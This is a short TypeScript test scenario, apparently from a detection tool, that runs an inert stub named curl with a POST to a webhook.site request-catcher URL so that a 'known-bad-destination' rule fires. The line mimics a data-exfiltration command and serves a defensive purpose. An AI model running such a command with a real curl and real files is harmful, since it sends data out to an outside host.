import type { Play } from "../play.ts";

export const knownBadDestination: Play = {
  rule: "known-bad-destination",
  does: "has a program named curl, which does nothing, told to go to a request catcher",
  play({ putIdle, folder, run }) {
    putIdle("curl");
    run(`${folder}/curl`, ["-d", "@nothing", "https://webhook.site/00000000-0000"]);
  },
};
